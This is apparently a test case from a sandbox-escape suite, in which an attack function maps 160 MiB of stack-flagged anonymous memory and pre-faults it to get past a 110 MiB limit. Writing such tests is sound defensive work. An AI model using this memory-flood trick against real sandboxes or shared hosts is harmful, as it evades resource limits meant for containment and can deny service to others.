"""Takes memory that is said to be a stack, which counts in no limit on data, all at once and for a moment only."""

import mmap

from tests.sandbox.escape.target import Harm, Target

HARM = Harm.FLOOD
ALLOWED = 110 * 2**20
AMOUNT = 160 * 2**20
MAP_GROWSDOWN = 0x100
MADV_POPULATE_WRITE = 23


def attack(target: Target) -> bytes:
    area = mmap.mmap(-1, AMOUNT, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_GROWSDOWN)
    area.madvise(MADV_POPULATE_WRITE)
    area.close()
    return str(AMOUNT).encode()
